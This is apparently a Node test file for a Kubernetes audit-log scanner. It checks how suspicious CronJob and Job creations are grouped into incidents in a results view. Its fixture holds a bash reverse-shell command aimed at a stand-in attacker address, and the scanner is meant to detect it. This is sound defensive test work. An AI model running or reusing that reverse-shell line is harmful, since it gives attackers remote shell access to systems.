import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { collectAuditLog, IncidentTracker } from '@jobsentinel/core/audit';
import { childNodes, nodeText, rootNodes, type AuditTreeNode } from '../src/common/audit-tree.ts';

const CONTROLLER = 'system:serviceaccount:kube-system:cronjob-controller';
const spec = { containers: [{ name: 'c', image: 'busybox:1.36', command: ['sh', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'] }] };

function event(id: string, resource: string, name: string, fields: Record<string, unknown> = {}) {
  const body =
    resource === 'cronjobs'
      ? { apiVersion: 'batch/v1', kind: 'CronJob', metadata: { name, namespace: 'ci' }, spec: { schedule: '* * * * *', jobTemplate: { spec: { template: { spec } } } } }
      : { apiVersion: 'batch/v1', kind: 'Job', metadata: { name, namespace: 'ci', ownerReferences: [{ kind: 'CronJob', name: 'build', controller: true }] }, spec: { template: { spec } } };
  return JSON.stringify({
    kind: 'Event', apiVersion: 'audit.k8s.io/v1', level: 'RequestResponse', auditID: id, stage: 'ResponseComplete', verb: 'create',
    user: { username: resource === 'jobs' ? CONTROLLER : 'alice' }, impersonatedUser: resource === 'jobs' ? undefined : { username: 'deployer' },
    objectRef: { resource, namespace: 'ci', name, apiGroup: 'batch' }, responseStatus: { code: 201 }, requestObject: body,
    stageTimestamp: `2026-03-02T10:0${id.length}:00Z`, ...fields,
  });
}

async function resultsOf(lines: string[], keep = Infinity) {
  const scan = await collectAuditLog(new Blob([lines.join('\n') + '\n']).stream(), { source: 'audit.log' });
  const tracker = new IncidentTracker();
  for (const match of scan.matches) tracker.add(match);
  return { incidents: tracker.list(), matches: scan.matches.slice(0, keep), uninspectable: scan.uninspectable, suppressed: scan.suppressed, summary: scan.summary };
}

const labels = (nodes: AuditTreeNode[]) => nodes.map((node) => `${node.kind}: ${nodeText(node).label}`);

describe('the audit results view: incidents, then requests, then indicators', () => {
  test('a CronJob and the Jobs its controller made are one incident, whose children are the requests', async () => {
    const results = await resultsOf([event('a', 'cronjobs', 'build'), event('bb', 'jobs', 'build-29000001'), event('ccc', 'jobs', 'build-29000002')]);
    const roots = rootNodes(results);
    assert.deepEqual(labels(roots), ['incident: CronJob ci/build']);
    assert.match(nodeText(roots[0]).description, /^3 suspicious writes · 2026-03-02T10:01:00Z → 2026-03-02T10:03:00Z · shell-escape, attacker-tooling$/);
    const requests = childNodes(roots[0]);
    assert.deepEqual(labels(requests), ['request: create cronjobs ci/build', 'request: create jobs ci/build-29000001', 'request: create jobs ci/build-29000002']);
    assert.match(nodeText(requests[0]).description, /alice \(as deployer\)/);
    const hits = childNodes(requests[0]);
    assert.deepEqual(hits.map((node) => nodeText(node).label).sort(), ['attacker-tooling', 'shell-escape', 'shell-escape']);
  });

  test('requests the scan did not keep are counted under their incident', async () => {
    const results = await resultsOf([event('a', 'cronjobs', 'build'), event('bb', 'jobs', 'build-29000001'), event('ccc', 'jobs', 'build-29000002')], 1);
    const [incident] = rootNodes(results);
    assert.deepEqual(labels(childNodes(incident)), ['request: create cronjobs ci/build', 'more: 2 more']);
  });

  test('uninspectable writes come last, each with who and why', async () => {
    const results = await resultsOf([event('a', 'cronjobs', 'build'), event('m', 'cronjobs', 'quiet', { level: 'Metadata', requestObject: undefined })]);
    const roots = rootNodes(results);
    assert.deepEqual(labels(roots), ['incident: CronJob ci/build', 'uninspectable-group: Not inspected']);
    const [write] = childNodes(roots[1]);
    assert.deepEqual(nodeText(write), { label: 'create cronjobs ci/quiet', description: 'line 2 · 2026-03-02T10:01:00Z · alice (as deployer) · Metadata level' });
  });

  test('a clean log shows nothing', async () => {
    const results = await resultsOf([]);
    assert.deepEqual(rootNodes(results), []);
  });
});
